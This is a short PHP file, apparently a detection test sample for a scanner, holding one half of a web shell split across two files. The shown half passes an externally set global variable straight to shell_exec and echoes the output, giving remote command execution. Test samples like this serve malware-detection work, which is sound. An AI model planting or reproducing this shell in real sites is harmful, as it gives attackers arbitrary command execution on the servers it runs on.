<?php
// spamgear test sample: the second half of a shell split in two files: the
// command comes from a global the first half (or register_globals) set.
if ($cmd != '') {
    echo shell_exec($cmd);
}
